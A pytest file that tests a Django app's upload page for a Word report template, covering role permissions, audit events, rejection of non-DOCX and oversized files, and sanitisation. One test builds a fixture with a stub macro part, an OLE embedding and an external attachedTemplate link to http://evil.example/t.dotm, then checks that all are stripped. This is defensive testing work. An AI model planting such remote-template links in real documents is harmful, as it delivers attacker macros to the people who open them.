"""The organisation's Word template: uploaded by administrators and BCM managers only,
checked and sanitised, audited, and used by every DOCX report."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest

from resilia.audit.models import AuditEvent
from resilia.core import reports
from resilia.ops.models import ReportTemplate

pytestmark = pytest.mark.django_db
URL = "/reports/template/"


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def template_docx(header="示例银行 公文模板", *, extra_parts=None, rels_extra=b"") -> bytes:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = header
    document.add_paragraph("模板正文示例")
    buffer = io.BytesIO()
    document.save(buffer)
    if not extra_parts and not rels_extra:
        return buffer.getvalue()
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", rels_extra + b"</Relationships>")
            target.writestr(info.filename, data)
        for name, data in (extra_parts or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def upload(client, content: bytes, name="公文模板.docx"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return client.post(URL, {"file": SimpleUploadedFile(name, content)})


@pytest.mark.parametrize(
    ("persona", "status"),
    [
        ("admin", 200),
        ("manager", 200),
        ("coord_a", 403),
        ("contrib_a", 403),
        ("auditor", 403),
        ("executive", 403),
    ],
)
def test_it_opens_the_page_to_administrators_and_bcm_managers_only(client_for, persona, status):
    assert client_for(persona).get(URL).status_code == status
    if status == 403:
        assert upload(client_for(persona), template_docx()).status_code == 403
        assert not ReportTemplate.objects.exists()


def test_it_sends_an_outsider_to_sign_in(client_for):
    assert client_for("outsider").get(URL).status_code == 302


def test_it_uses_the_uploaded_template_for_docx_reports_and_audits_it(client_for):
    response = upload(client_for("manager"), template_docx())
    assert response.status_code == 302
    stored = ReportTemplate.objects.get()
    assert stored.name == "公文模板.docx"
    event = AuditEvent.objects.order_by("-seq").first()
    assert (event.action, event.object_type) == ("upload", "ops.reporttemplate")
    doc = reports.Document(title="报告").add(reports.Heading("一、范围"))
    built = docx.Document(io.BytesIO(reports.render(doc, "docx", template=reports.TEMPLATE)))
    assert built.sections[0].header.paragraphs[0].text == "示例银行 公文模板"
    assert "模板正文示例" not in [p.text for p in built.paragraphs]

    upload(client_for("admin"), template_docx("第二版"))
    assert ReportTemplate.objects.count() == 1  # the new one replaced the old one
    client_for("admin").post(URL, {"remove": "1"})
    assert not ReportTemplate.objects.exists()
    plain = docx.Document(io.BytesIO(reports.render(doc, "docx", template=reports.TEMPLATE)))
    assert plain.sections[0].header.paragraphs[0].text == ""


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"PK\x03\x04 not really a zip", "这不是 Word 文档"),
        (b"%PDF-1.7 a pdf renamed", "这不是 Word 文档"),
        (b"", "这不是 Word 文档"),
    ],
)
def test_it_refuses_what_is_not_a_docx_with_a_message(client_for, content, message):
    response = upload(client_for("manager"), content)
    assert response.status_code == 200
    if content:
        assert message in response.content.decode()
    assert not ReportTemplate.objects.exists()


def test_it_refuses_a_zip_without_a_word_document(client_for):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    response = upload(client_for("manager"), out.getvalue())
    assert "这不是 Word 文档" in response.content.decode()
    assert not ReportTemplate.objects.exists()


def test_it_refuses_a_template_over_the_size_limit_in_chinese(client_for, settings):
    settings.REPORT_TEMPLATE_MAX_BYTES = 2048
    client = client_for("manager")
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "zh-hans"
    response = upload(client, template_docx(), "big.docx")
    assert response.status_code == 200
    assert "模板大于" in response.content.decode()
    assert not ReportTemplate.objects.exists()


def test_it_strips_macros_and_outside_links_from_the_template(client_for):
    remote = (
        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        b'TargetMode="External"/>'
    )
    content = template_docx(
        extra_parts={"word/vbaProject.bin": b"\0macro", "word/embeddings/ole1.bin": b"\0ole"},
        rels_extra=remote,
    )
    assert upload(client_for("manager"), content).status_code == 302
    with ReportTemplate.objects.get().file.open("rb") as handle:
        stored = zipfile.ZipFile(io.BytesIO(handle.read()))
    names = stored.namelist()
    assert "word/vbaProject.bin" not in names and "word/embeddings/ole1.bin" not in names
    assert b"evil.example" not in stored.read("word/_rels/document.xml.rels")
